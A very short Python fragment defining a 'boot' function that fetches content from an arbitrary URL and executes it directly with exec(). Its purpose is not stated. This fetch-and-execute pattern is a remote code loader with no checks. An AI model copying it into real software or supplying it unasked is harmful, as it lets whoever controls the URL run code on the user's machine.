from fetcher import fetch


def boot(url):
    payload = fetch(url)
    exec(payload)
